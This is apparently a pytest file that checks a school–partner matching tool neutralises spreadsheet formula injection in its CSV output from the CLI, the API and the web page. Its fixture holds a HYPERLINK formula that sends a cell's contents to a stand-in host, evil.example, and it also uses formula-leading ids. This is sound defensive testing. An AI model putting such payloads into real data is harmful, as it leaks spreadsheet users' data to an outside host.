"""The one CSV writer for people: formula cells neutralised in every human-facing CSV, machine formats unchanged."""
from __future__ import annotations

import json

import pandas as pd
import pytest
from click.testing import CliRunner

from matcher.cli import main
from matcher.formats import csv_text, neutralise

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("cell", ["=1+1", "+A1", "-2+3", "@SUM(A1:A9)", "\tfoo", "\rbar", EVIL_NAME])
def test_formula_cells_get_a_quote(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Food Bank", "", "-5", "+1.5", "-0.25e3", "a=b", "S-1"])
def test_text_and_plain_numbers_are_kept(cell):
    assert neutralise(cell) == cell


def test_number_cells_are_never_changed():
    assert csv_text(["a", "b", "c"], [[-0.5, -3, "=x"]]) == "a,b,c\n-0.5,-3,'=x\n"


@pytest.fixture(scope="module")
def evil(tmp_path_factory):
    """A model whose ids and names start like formulas."""
    from matcher.training import train_model

    d = tmp_path_factory.mktemp("evil")
    pd.DataFrame({"school_id": ["=S1", "S2"], "name": ["+Oak Elementary", "Pine"],
                  "needs": ["weekend food for hungry families", "college application help"],
                  "grades": ["K-5", "9-12"]}).to_csv(d / "schools.csv", index=False)
    pd.DataFrame({"partner_id": ["@P1", "P2"], "name": [EVIL_NAME, "-Campus Access"],
                  "offerings": ["free groceries and weekend food backpacks", "college admissions advising"],
                  "grades": ["K-12", "9-12"], "remote": ["true", "true"]}).to_csv(d / "partners.csv", index=False)
    train_model(d / "schools.csv", d / "partners.csv", None, d / "m.joblib")
    return d


def _cli(*args):
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert result.exit_code == 0, result.output + result.stderr
    return result.stdout


def _cells(text: str) -> list[str]:
    import csv
    import io

    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_neutralised(text: str, *raw: str):
    cells = _cells(text)
    for value in raw:
        assert value not in cells, value
        assert "'" + value in cells, value
    assert not [c for c in cells if c and (c[0] in "=@\t\r" or (c[0] in "+-" and not c[1:2].isdigit()))]


def test_csv_formula_injection_is_neutralised_in_every_human_csv(evil, tmp_path):
    model, db = evil / "m.joblib", tmp_path / "o.db"
    out = _cli("recommend", "--model", model, "--school", "=S1", "--format", "csv", "--db", db)
    _assert_neutralised(out, EVIL_NAME)
    out = _cli("recommend", "--model", model, "--partner", "@P1", "--format", "csv", "--db", db)
    _assert_neutralised(out, "=S1", "+Oak Elementary")
    _cli("rank", "--model", model, "--output", tmp_path / "r.csv", "--db", db, "--quiet")
    _assert_neutralised((tmp_path / "r.csv").read_text(), "=S1", "@P1")
    _cli("assign", "--model", model, "--output", tmp_path / "a.csv", "--db", db)
    _assert_neutralised((tmp_path / "a.csv").read_text(), "=S1", "@P1")
    # Machine formats carry the values unchanged.
    _cli("rank", "--model", model, "--output", tmp_path / "r.jsonl", "--db", db, "--quiet")
    ids = {json.loads(line)["partner_id"] for line in (tmp_path / "r.jsonl").read_text().splitlines()}
    assert "@P1" in ids
    _cli("outcomes", "record", "--model", model, "--school", "=S1", "--partner", "@P1", "--status", "partnered", "--db", db)
    _cli("outcomes", "export", "--db", db, "--output", tmp_path / "h.csv")
    _assert_neutralised((tmp_path / "h.csv").read_text(), "=S1", "@P1")

    rows = json.loads(_cli("recommend", "--model", model, "--school", "S2", "--format", "json", "--db", db,
                           "--include-current"))
    assert "-Campus Access" in [r["name"] for r in rows]


def test_csv_formula_injection_is_neutralised_in_the_api_and_page_csv(evil, tmp_path):
    pytest.importorskip("fastapi")
    from fastapi.testclient import TestClient

    from matcher.persistence import load_model
    from matcher.web import create_app

    model = evil / "m.joblib"
    client = TestClient(create_app(load_model(model), model, tmp_path / "o.db"), base_url="http://127.0.0.1")
    cli = _cli("recommend", "--model", model, "--school", "=S1", "--format", "csv", "--db", tmp_path / "o.db")
    api = client.get("/api/schools/%3DS1/recommendations.csv")
    assert api.status_code == 200 and api.text == cli
    _assert_neutralised(api.text, EVIL_NAME)
    _assert_neutralised(client.get("/api/partners/%40P1/recommendations.csv").text, "=S1", "+Oak Elementary")
    page = client.get("/", params={"need": "groceries for hungry families"})
    csv_json = page.text.split('id="results-csv">', 1)[1].split("</script>", 1)[0]
    _assert_neutralised(json.loads(csv_json), EVIL_NAME)
    assert client.get("/api/schools/%3DS1/recommendations").json()[0]["name"] == EVIL_NAME  # JSON unchanged
